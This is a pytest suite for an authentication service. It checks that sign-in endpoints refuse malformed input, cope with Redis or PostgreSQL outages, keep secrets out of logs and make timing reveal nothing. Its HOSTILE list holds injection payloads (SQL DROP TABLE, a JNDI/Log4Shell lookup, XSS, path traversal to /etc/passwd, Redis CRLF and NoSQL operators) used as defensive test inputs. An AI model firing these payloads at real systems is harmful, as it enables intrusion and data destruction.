"""Signing in with bad input and with stores away: refused as documented, and nothing changed."""

import json
import logging
import time
import uuid
from collections.abc import Callable
from typing import Any

import pytest
from fix_identity import PASSWORD, IdentitySite

from serving.identity import sign_in
from serving.logs import JsonLines
from serving.routers import auth
from stores.postgres import api_keys
from stores.postgres.client import connect
from stores.settings import load_settings

TOKEN = "t" * 43
BODIES: dict[str, dict[str, Any]] = {
    "register": {"email": "a@example.com", "password": PASSWORD, "full_name": "A"},
    "verify-email": {"token": TOKEN},
    "login": {"email": "a@example.com", "password": PASSWORD, "device": "phone"},
    "refresh": {"refresh_token": f"idr_{TOKEN}"},
    "logout": {"refresh_token": f"idr_{TOKEN}"},
    "password-reset": {"email": "a@example.com"},
    "password-reset/confirm": {"token": TOKEN, "password": PASSWORD},
}
HOSTILE = (
    "' OR 1=1; DROP TABLE users; --",
    "${jndi:ldap://example.com/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "*\r\nSET a b\r\n",
    "a\x00b",
    "\ud800",
    "\u202e\u0000",
    "%00%0a",
    "",
    " ",
    "x" * 10_000,
    "\ufdfa" * 257,
    None,
    7,
    True,
    [],
    {"$gt": ""},
)
# A name may hold any sign; a token or a password that is wrong is refused for being wrong.
HARMLESS = {("register", "full_name"), ("login", "device"), ("logout", "refresh_token")}


def counts(site: IdentitySite) -> list[tuple[Any, ...]]:
    """What there is of everything that signing in may change."""
    return site.sql(
        "SELECT (SELECT count(*) FROM users), (SELECT count(*) FROM user_roles),"
        " (SELECT count(*) FROM platform.mail_outbox), (SELECT count(*) FROM platform.api_keys)"
    )


def test_hostile_strings_in_every_field_are_refused(
    identity: IdentitySite, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sign_in, "ATTEMPTS_BY_ADDRESS", 10_000)
    before = counts(identity)
    for path, good in BODIES.items():
        for field in [*good, "unknown"]:
            for value in HOSTILE:
                if (path, field) in HARMLESS or (path, field) == ("register", "password"):
                    continue
                # Escapes, as whoever sends half a character would.
                body = json.dumps(good | {field: value})
                answer = identity.client.post(
                    f"/v1/auth/{path}", content=body, headers={"Content-Type": "application/json"}
                )
                assert answer.status_code in (400, 401, 422, 429), (path, field, value)
                assert answer.headers["content-type"] == "application/problem+json"
    assert counts(identity) == before


def test_what_a_name_may_hold_is_kept_as_it_is(identity: IdentitySite) -> None:
    email, name = f"{uuid.uuid4().hex}@example.com", "'; DROP TABLE users; -- <b>Ada</b> 😀"
    made = identity.post("register", email=email, password=PASSWORD, full_name=name)
    assert made.status_code == 202
    found = identity.sql("SELECT full_name, password_hash FROM users WHERE email = %s", email)
    assert found[0][0] == name
    refused = identity.post("register", email=email, password=PASSWORD, full_name="a\x00b")
    assert refused.status_code == 422
    # Of the longest password every character counts, and no longer one is hashed.
    longest = "😀 " + "correct horse " * 18 + "ab"
    assert len(longest) == 256
    other = f"{uuid.uuid4().hex}@example.com"
    assert identity.post("register", email=other, password=longest).status_code == 202
    assert identity.post("register", email=other, password=longest + "c").status_code == 422
    identity.post("verify-email", token=identity.mailed_token(other))
    assert identity.post("login", email=other, password=longest[:-1]).status_code == 401
    assert identity.post("login", email=other, password=longest).status_code == 200


@pytest.mark.parametrize(
    ("content", "headers", "status"),
    [
        (b"", {"Content-Type": "application/json"}, 422),
        (b"{", {"Content-Type": "application/json"}, 422),
        (b"\xff\xfe{}", {"Content-Type": "application/json"}, 422),
        (b"[" * 16_000, {"Content-Type": "application/json"}, 422),
        (b"[]", {"Content-Type": "application/json"}, 422),
        (b"null", {"Content-Type": "application/json"}, 422),
        (b'{"\\ud800": 1}', {"Content-Type": "application/json"}, 422),
        (b"{" + b" " * 17_000 + b"}", {"Content-Type": "application/json"}, 413),
        (b"email=a&password=b", {"Content-Type": "application/x-www-form-urlencoded"}, 415),
        (b"{}", {"Content-Type": "text/plain"}, 415),
        (b"{}", {}, 415),
        (b"\x1f\x8b", {"Content-Type": "application/json", "Content-Encoding": "gzip"}, 415),
    ],
)
def test_a_body_that_is_no_small_json_object_is_refused(
    identity: IdentitySite, content: bytes, headers: dict[str, str], status: int
) -> None:
    for path in BODIES:
        answer = identity.client.post(f"/v1/auth/{path}", content=content, headers=headers)
        # What cannot be read at all may also be called that.
        assert answer.status_code in {status, 400 if status == 422 else status}, path
        assert answer.headers["content-type"] == "application/problem+json"


def test_without_redis_nobody_signs_in_and_tokens_go_on(identity: IdentitySite) -> None:
    email = identity.make_user("operator")
    tokens = identity.log_in(email)
    before = counts(identity)
    identity.redis.down()
    for path, body in BODIES.items():
        ours = {"refresh_token": tokens["refresh_token"]}
        answer = identity.post(path, **(ours if "refresh_token" in body else body))
        assert (answer.status_code, "retry-after" in answer.headers) == (503, True), path
    assert counts(identity) == before
    headers = {"Authorization": f"Bearer {tokens['access_token']}"}
    assert identity.client.get("/v1/admin/keys", headers=headers).status_code == 200
    assert identity.client.get("/v1/auth/sessions", headers=headers).status_code == 503
    identity.redis.up()
    # The token that could not be refreshed was not used up.
    fresh = identity.post("refresh", refresh_token=tokens["refresh_token"])
    assert fresh.status_code == 200
    identity.log_in(email)


def test_without_postgres_known_credentials_go_on(identity: IdentitySite) -> None:
    email = identity.make_user("operator")
    tokens = identity.log_in(email)
    with connect(identity.database_url) as connection:
        key = api_keys.create(connection, uuid.uuid4().hex, ["events:read"])
        new = api_keys.create(connection, uuid.uuid4().hex, ["events:read"])
    path = f"/v1/events/{uuid.uuid4()}/status"

    def read(credentials: str) -> int:
        headers = {"Authorization": f"Bearer {credentials}"}
        return int(identity.client.get(path, headers=headers).status_code)

    assert (read(key), read(tokens["access_token"])) == (404, 404)
    identity.postgres.down()
    assert (read(key), read(tokens["access_token"])) == (404, 404)
    # Nobody can say whether this one works.
    assert read(new) == 503
    assert identity.client.get("/.well-known/jwks.json").status_code == 200
    for path_of, body in BODIES.items():
        # These three have nothing to ask PostgreSQL: the token is none, the sessions are in Redis.
        if path_of in ("verify-email", "password-reset/confirm", "logout"):
            continue
        ours = {"refresh_token": tokens["refresh_token"]}
        answer = identity.post(path_of, **(ours if "refresh_token" in body else body))
        assert (answer.status_code, "retry-after" in answer.headers) == (503, True), path_of
    identity.postgres.up()
    assert identity.post("refresh", refresh_token=tokens["refresh_token"]).status_code == 200
    assert read(new) == 404


def test_a_mailed_token_survives_an_outage_in_the_middle(identity: IdentitySite) -> None:
    email = identity.make_user()
    identity.post("password-reset", email=email)
    token, new = identity.mailed_token(email), "a password nobody knew"
    for store in (identity.postgres, identity.redis):
        store.down()
        refused = identity.post("password-reset/confirm", token=token, password=new)
        assert refused.status_code == 503
        store.up()
    done = identity.post("password-reset/confirm", token=token, password=new)
    assert done.status_code == 204, done.text


def test_no_secret_is_logged_or_answered(
    identity: IdentitySite, caplog: pytest.LogCaptureFixture
) -> None:
    form = JsonLines()
    answers: list[Any] = []

    def noted(ask: Callable[..., Any], *arguments: Any, **options: Any) -> Any:
        answers.append(ask(*arguments, **options))
        return answers[-1]

    with caplog.at_level(logging.DEBUG):
        email = identity.make_user("operator")
        tokens = identity.log_in(email)
        administrator = {"Authorization": f"Bearer {tokens['access_token']}"}
        fresh = identity.post("refresh", refresh_token=tokens["refresh_token"]).json()
        noted(identity.post, "refresh", refresh_token="idr_wrong")
        noted(identity.post, "login", email=email, password="not the password")
        noted(identity.post, "register", email=email, password=PASSWORD, unknown=PASSWORD)
        noted(identity.post, "register", email=email, password="short-secret")
        noted(identity.post, "password-reset", email=email)
        mailed = identity.mailed_token(email)
        noted(identity.post, "verify-email", token=mailed)
        for path in ("/v1/auth/sessions", "/v1/admin/keys", "/openapi.json", "/docs"):
            noted(identity.client.get, path, headers=administrator)
        wanted = {"name": uuid.uuid4().hex, "scopes": ["usage:read"]}
        made = identity.client.post("/v1/admin/keys", json=wanted, headers=administrator).json()
        identity.redis.down()
        noted(identity.post, "login", email=email, password=PASSWORD)
    [[kept]] = identity.sql("SELECT password_hash FROM users WHERE email = %s", email)
    secrets = [
        PASSWORD,
        "not the password",
        "short-secret",
        mailed,
        made["key"],
        identity.secret,
        kept,
        "$argon2id",
        *(each[name] for each in (tokens, fresh) for name in ("access_token", "refresh_token")),
    ]
    logged = "\n".join(form.format(record) for record in caplog.records)
    assert "was made by user" in logged
    assert [each for each in [*secrets, email] if each in logged] == []
    # The documentation shows a password as an example of one.
    told = "\n".join(each.text for each in answers).replace(f'"{PASSWORD}"', "")
    assert [each for each in secrets[1:] if each in told] == []


def test_the_hash_of_a_password_is_not_captured(identity: IdentitySite) -> None:
    assert "users.password_hash=exclude" in load_settings().capture_columns.split(",")


def test_without_a_secret_only_signing_in_is_missing(
    identity: IdentitySite, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Unset:
        auth_secret = None

    monkeypatch.setattr(auth, "load_settings", Unset)
    known = identity.app.state.sign_in
    del identity.app.state.sign_in
    answer = identity.post("login", email="a@example.com", password=PASSWORD)
    identity.app.state.sign_in = known
    assert answer.status_code == 503
    assert answer.json()["type"] == "/problems/sign-in-not-set-up"
    assert "AUTH_SECRET" in answer.json()["detail"]


def test_answers_that_may_not_tell_take_as_long_as_each_other(
    identity: IdentitySite, monkeypatch: pytest.MonkeyPatch
) -> None:
    known, unknown = identity.make_user(), f"{uuid.uuid4().hex}@example.com"
    monkeypatch.setattr(sign_in, "SAME_TIME_SECONDS", 0.5)
    for email in (known, unknown):
        for path, body in (("password-reset", {}), ("register", {"password": PASSWORD})):
            started = time.monotonic()
            assert identity.post(path, email=email, **body).status_code == 202
            assert time.monotonic() - started >= 0.5
